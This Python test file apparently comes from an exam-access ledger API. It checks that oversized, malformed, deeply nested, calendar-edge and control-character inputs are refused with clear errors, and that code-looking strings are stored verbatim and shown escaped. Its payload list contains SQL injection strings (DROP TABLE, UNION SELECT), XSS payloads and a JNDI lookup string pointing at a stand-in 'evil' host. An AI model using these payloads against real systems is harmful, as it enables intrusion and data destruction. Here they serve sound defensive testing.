"""Hostile input over HTTP, on every store: refused with clear errors, or stored verbatim — never a 5xx.

- bodies over LEDGER_MAX_BODY_BYTES → 413, whether or not they declare their length;
- a page `limit` over LEDGER_MAX_PAGE, or a position beyond 64 bits → 422 naming the field;
- a batch over LEDGER_MAX_BATCH, or with more redemptions than LEDGER_MAX_REDEMPTIONS_PER_BATCH → 422
  and nothing recorded; a thousand redemptions for an unknown person answer fast (nothing hashed);
- JSON nested deeper than the parser goes, or not JSON at all → 422 in the API's error shape;
- instants at the edges of the calendar (whose UTC conversion leaves years 1–9999) → 422;
- names, ids and free text holding control or bidirectional-formatting characters → 422 naming the field;
- names, titles and reasons that look like SQL, HTML or template code are stored verbatim
  (read back unchanged from the feed), break no query, and the console shows them escaped;
- ids that look like SQL in paths and queries are just unknown ids (404 / `allowed: false`).
"""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from api.bootstrap import create_app
from tests.api.conftest import Api, S, auth, settings_for, world_commands

SMALL_BODY = 4096

NASTY = [
    "Robert'); DROP TABLE ledger_events;--",
    "x' OR '1'='1",
    '" OR ""="',
    "%' UNION SELECT state FROM ledger_events --",
    "$$; DELETE FROM ledger_events; $$",
    "<script>alert('pwned')</script>",
    '<img src=x onerror="alert(1)">',
    "</td></tr></table><h1>injected</h1>",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://evil/x}",
    'O\'Brien & <Sons> "Ltd" \\ back\\slash',
    "Zoë — ∑ 🚀 محمد דוד",
    "-- ; /* */ \\x00 \\' \\\"",
    "A" * 500,
]


def events_of(api: Api) -> list[dict[str, Any]]:
    response = api.get("/v1/events", limit=1000)
    assert response.status_code == 200, response.text
    return list(response.json()["events"])


def assert_error(response: Any, status: int, code: str | None = None) -> dict[str, Any]:
    assert response.status_code == status, response.text
    error = response.json()["error"]
    assert set(error) >= {"code", "message", "rule"}
    assert error["message"]
    if code is not None:
        assert error["code"] == code
    return dict(error)


@pytest.fixture
def small() -> Iterator[Api]:
    """The app on a memory store (the store plays no part in these refusals), with small limits:
    4 KiB bodies, batches of 10, pages of 50."""
    settings = settings_for("memory://", max_body_bytes=SMALL_BODY, max_batch=10, max_page=50)
    with TestClient(create_app(settings, announce=lambda _: None), raise_server_exceptions=False) as http:
        yield Api(http)


# --- sizes and limits -------------------------------------------------------------------------------------


def test_a_body_over_the_limit_is_refused_with_413_and_records_nothing(small: Api) -> None:
    body = {"type": "register_district", "district_id": "D-1", "name": "x" * (SMALL_BODY + 1)}
    response = small.http.post("/v1/commands", json=body, headers=auth("registrar"))
    assert_error(response, 413, "too_large")
    assert small.position() == 0


def test_a_body_over_the_limit_without_a_declared_length_is_refused_with_413(small: Api) -> None:
    def chunks() -> Iterator[bytes]:
        yield b'{"type": "register_district", "district_id": "D-1", "name": "'
        for _ in range(SMALL_BODY // 512 + 2):
            yield b"x" * 512
        yield b'"}'

    response = small.http.post(
        "/v1/commands", content=chunks(), headers={**auth("registrar"), "Content-Type": "application/json"}
    )
    assert_error(response, 413, "too_large")
    assert small.position() == 0


def test_a_body_just_under_the_limit_is_read(small: Api) -> None:
    body = {"type": "register_district", "district_id": "D-1", "name": "x" * 400}
    assert small.http.post("/v1/commands", json=body, headers=auth("registrar")).status_code == 201


@pytest.mark.parametrize(
    ("path", "params", "field"),
    [
        ("/v1/events", {"limit": 51}, "limit"),
        ("/v1/events", {"limit": 10**9}, "limit"),
        ("/v1/events", {"limit": 10**30}, "limit"),
        ("/v1/events", {"limit": 0}, "limit"),
        ("/v1/events", {"after": 2**63}, "after"),
        ("/v1/events", {"after": -1}, "after"),
        ("/v1/checkpoints", {"limit": 10**9}, "limit"),
        ("/v1/checkpoints", {"after": 10**30}, "after"),
        ("/v1/verify", {"checkpoint_position": 2**64, "checkpoint_chain": "0" * 64}, "checkpoint_position"),
    ],
)
def test_a_huge_or_negative_page_parameter_is_refused_with_422_naming_it(
    small: Api, path: str, params: dict[str, Any], field: str
) -> None:
    error = assert_error(small.get(path, **params), 422, "invalid_input")
    assert field in error["message"]


def test_the_largest_allowed_page_is_served(small: Api) -> None:
    assert small.get("/v1/events", limit=50).status_code == 200


def test_a_batch_over_the_limit_is_refused_with_422_and_records_nothing(small: Api) -> None:
    commands = [{"type": "register_district", "district_id": f"D-{n}", "name": "x"} for n in range(11)]
    assert_error(small.batch(commands), 422, "batch_too_large")
    assert small.position() == 0
    assert small.batch(commands[:10]).status_code == 201


def test_a_batch_with_more_redemptions_than_the_limit_is_refused_with_422_naming_the_field(make_client: Any) -> None:
    api = make_client(max_redemptions_per_batch=3)
    redemption = {"type": "redeem_access_code", "school_id": "S-1", "exam_year": 2025, "person_id": "P-1", "code": "X"}

    response = api.batch([redemption] * 4)

    error = assert_error(response, 422, "too_many_redemptions")
    assert error["field"] == "commands"
    assert api.position() == 0
    assert api.batch([redemption] * 3).json()["error"]["code"] == "unknown_person"  # within the limit: judged


def test_a_thousand_redemptions_for_an_unregistered_person_answer_within_two_seconds(make_client: Any) -> None:
    # The production argon2id parameters: before any code is hashed, the unknown person refuses the batch.
    api = make_client(max_redemptions_per_batch=1000, code_hash_time_cost=2, code_hash_memory_kib=19 * 1024)
    assert api.batch(world_commands()).status_code == 201
    before = api.position()
    redemption = {"type": "redeem_access_code", "school_id": S, "exam_year": 2025, "person_id": "P-NOBODY"}

    started = time.perf_counter()
    response = api.batch([{**redemption, "code": "AAAA-BBBB-CCCC"}] * 1000)
    elapsed = time.perf_counter() - started

    assert_error(response, 404, "unknown_person")
    assert elapsed < 2, elapsed
    assert api.position() == before


def test_an_empty_batch_is_refused_with_422(small: Api) -> None:
    assert_error(small.batch([]), 422, "invalid_input")


# --- malformed and deeply nested JSON ----------------------------------------------------------------------


def post_raw(api: Api, path: str, raw: str) -> Any:
    return api.http.post(path, content=raw.encode(), headers={**auth("registrar"), "Content-Type": "application/json"})


@pytest.mark.parametrize("depth", [50, 900])
def test_nested_json_within_the_parsers_depth_is_refused_with_422(small: Api, depth: int) -> None:
    api = small
    nested = "[" * depth + "]" * depth
    response = post_raw(api, "/v1/commands/batch", '{"commands": ' + nested + "}")
    assert_error(response, 422, "invalid_input")
    response = post_raw(
        api, "/v1/commands", '{"type": "register_district", "district_id": "D-1", "name": ' + nested + "}"
    )
    assert_error(response, 422, "invalid_input")
    assert api.position() == 0


@pytest.mark.parametrize("depth", [1_200, 2_000])  # Python's JSON parser stops at about 1,000 levels
def test_json_nested_deeper_than_the_parser_goes_is_refused_with_422_not_a_server_error(small: Api, depth: int) -> None:
    api = small
    nested = "[" * depth + "]" * depth
    for raw in ('{"commands": ' + nested + "}", '{"type": "register_district", "name": ' + nested + "}"):
        assert_error(post_raw(api, "/v1/commands/batch", raw), 422, "invalid_input")
        assert_error(post_raw(api, "/v1/commands", raw), 422, "invalid_input")
    assert api.position() == 0


@pytest.mark.parametrize(
    "raw", ['{"type": "register_district", "district_id": "D-1", "name": "x"', "not json", "", "[]", "null", '"x"']
)
def test_a_body_that_is_not_a_command_is_refused_with_422(small: Api, raw: str) -> None:
    api = small
    assert_error(post_raw(api, "/v1/commands", raw), 422)
    assert api.position() == 0


# --- the edges of the calendar -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "instant", ["9999-12-31T23:59:59-23:59", "9999-12-31T23:59:59.999999-12:00", "0001-01-01T00:00:00+14:00"]
)
def test_an_instant_beyond_the_calendar_is_refused_with_422_everywhere(small: Api, instant: str) -> None:
    api = small
    api.ok(type="register_school", school_id="S-1", name="School")
    api.ok(type="register_person", person_id="P-T", name="Teacher", email="t@x.org")
    before = api.position()

    as_effective_at = api.command(type="register_district", district_id="D-9", name="x", effective_at=instant)
    as_at = api.get("/v1/people/P-T/rights", at=instant)
    as_of = api.get("/v1/orgs/S-1/windows", as_of=instant)
    as_from = api.get("/v1/orgs/S-1/access", from_=instant, to="9999-12-30")

    for response, field in ((as_effective_at, "effective_at"), (as_at, "at"), (as_of, "as_of"), (as_from, "from")):
        error = assert_error(response, 422, "invalid_input")
        assert field in error["message"]
    assert api.position() == before


# --- strings that look like code -------------------------------------------------------------------------------


def test_names_titles_and_reasons_that_look_like_sql_or_html_are_stored_verbatim_and_break_nothing(api: Api) -> None:
    created = api.batch(world_commands())
    assert created.status_code == 201, created.text
    start = api.position()
    people = []
    for n, text in enumerate(NASTY):
        pid = f"P-N{n}"
        people.append(pid)
        for body in (
            {
                "type": "register_person",
                "person_id": pid,
                "name": text,
                "email": f"n{n}@x.org",
                "effective_at": "2024-08-01",
            },
            {"type": "update_profile", "person_id": pid, "title": text},
            {"type": "add_affiliation", "person_id": pid, "org_id": "S-1", "effective_at": "2024-08-01"},
            {"type": "register_district", "district_id": f"D-N{n}", "name": text},
        ):
            assert api.command(**body).status_code == 201
        api.ok(
            type="revoke_access_code",
            school_id="S-1",
            exam_year=2025,
            reason=text,
            effective_at=f"2025-07-02T10:{n:02d}:00Z",
        )
        api.ok(type="issue_access_code", school_id="S-1", exam_year=2025, effective_at=f"2025-07-02T10:{n:02d}:30Z")
        district = [e for e in events_of(api) if e["type"] == "DistrictRegistered"][-1]
        api.ok(type="void_event", event_id=district["event_id"], reason=text)

    stored = [e for e in events_of(api) if e["position"] > start]
    by_type: dict[str, list[str]] = {}
    for e in stored:
        for key in ("name", "title", "reason"):
            if key in e["data"] and e["data"][key] is not None:
                by_type.setdefault(f"{e['type']}.{key}", []).append(e["data"][key])
    assert by_type["PersonRegistered.name"] == NASTY
    assert by_type["ProfileUpdated.title"] == NASTY
    assert by_type["DistrictRegistered.name"] == NASTY
    assert by_type["AccessCodeRevoked.reason"] == NASTY
    assert by_type["EventVoided.reason"] == NASTY

    last = api.position()
    for pid in people:
        timeline = api.get(f"/v1/people/{pid}/timeline", min_position=last)
        assert timeline.status_code == 200, timeline.text
        assert timeline.json()["events"][0]["data"]["name"] in NASTY
        assert api.get(f"/v1/people/{pid}/rights", min_position=last).status_code == 200
    assert api.get("/v1/orgs/S-1/access", from_="2024-01-01", to="2026-01-01", min_position=last).status_code == 200
    assert api.get("/v1/orgs/S-1/windows", min_position=last).status_code == 200
    verified = api.get("/v1/verify", full="true").json()
    assert verified["ok"] is True
    assert verified["position"] == last


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"type": "register_person", "person_id": "P-R", "name": "Ada \u202enoryB", "email": "r@x.org"}, "name"),
        ({"type": "register_person", "person_id": "P-R", "name": "nul\u0000byte", "email": "r@x.org"}, "name"),
        ({"type": "register_district", "district_id": "D-\u2066R", "name": "x"}, "district_id"),
        ({"type": "update_profile", "person_id": "P-T", "title": "Head\u2067 of\u2069 AP"}, "title"),
        ({"type": "revoke_access_code", "school_id": "S-1", "exam_year": 2025, "reason": "x\u001b[2J"}, "reason"),
        ({"type": "void_event", "event_id": "e\u0000", "reason": "x"}, "event_id"),
    ],
    ids=["RTL override", "NUL", "isolate in an id", "isolates in a title", "escape sequence", "NUL in an id"],
)
def test_control_and_bidirectional_formatting_characters_are_refused_with_422_naming_the_field(
    api: Api, body: dict[str, Any], field: str
) -> None:
    assert api.batch(world_commands()).status_code == 201
    before = api.position()

    error = assert_error(api.command(**body), 422, "invalid_input")

    assert error["field"] == field
    assert api.position() == before


@pytest.mark.parametrize("text", ["x' OR '1'='1", "1; DROP TABLE ledger_events", "<b>", "%", "_", "P-T' --", "P-%"])
def test_ids_that_look_like_sql_are_unknown_ids_and_break_no_query(api: Api, text: str) -> None:
    assert api.batch(world_commands()).status_code == 201
    rights = api.http.get(f"/v1/people/{quote(text, safe='')}/rights", headers=auth("auditor"))
    windows = api.http.get(f"/v1/orgs/{quote(text, safe='')}/windows", headers=auth("auditor"))
    check = api.check(person_id=text, org_id="S-1", report="score_summary", exam_year=2025, school_id="S-1")
    command = api.command(type="add_affiliation", person_id=text, org_id="S-1")

    assert rights.status_code == 404
    assert windows.status_code == 404
    assert check.status_code == 200
    assert check.json()["allowed"] is False
    assert check.json()["rules"] == ["R1"]
    assert command.status_code == 422  # ids are letters, digits, dot, dash and underscore


# --- shown escaped ------------------------------------------------------------------------------------------------


def console_session(api: Api) -> None:
    """Sign the TestClient in to the console with the auditor key (its cookies are kept)."""
    form = api.http.get("/console/sign-in")
    assert form.status_code == 200, form.text
    token = re.search(r'name="form_token" value="([^"]+)"', form.text)
    assert token is not None
    signed = api.http.post(
        "/console/sign-in",
        data={
            "api_key": auth("auditor")["Authorization"].split()[1],
            "form_token": token.group(1),
            "next": "/console/",
        },
        follow_redirects=False,
    )
    assert signed.status_code == 303, signed.text


def test_the_console_shows_html_looking_names_escaped(api: Api) -> None:
    assert api.batch(world_commands()).status_code == 201
    script = "<script>alert('pwned')</script>"
    api.ok(type="register_person", person_id="P-X", name=script, email="x@x.org")
    api.ok(type="update_profile", person_id="P-X", title='<img src=x onerror="alert(1)">')
    console_session(api)

    page = api.http.get("/console/people/P-X", params={"known": ""})

    assert page.status_code == 200, page.text
    assert script not in page.text
    assert "<img src=x" not in page.text
    assert "&lt;script&gt;" in page.text
    assert "default-src 'none'" in page.headers["content-security-policy"]


@pytest.mark.parametrize(
    ("path", "params", "field"),
    [
        ("/v1/events/%00/proof", {}, "event_id"),
        ("/v1/people/P-1%00/rights", {}, "person_id"),
        ("/v1/orgs/S-1%1B/windows", {}, "org_id"),
        (
            "/v1/check",
            {"person_id": "P-1\x00", "org_id": "S-1", "report": "score_summary", "exam_year": 2025, "school_id": "S-1"},
            "person_id",
        ),
        ("/v1/people", {"query": "Dana\u202e"}, "query"),
    ],
)
def test_a_control_character_in_an_id_or_a_query_value_is_refused_with_422_naming_it_on_every_store(
    api: Api, path: str, params: dict[str, Any], field: str
) -> None:
    error = assert_error(api.get(path, **params), 422, "invalid_input")
    assert error.get("field") == field
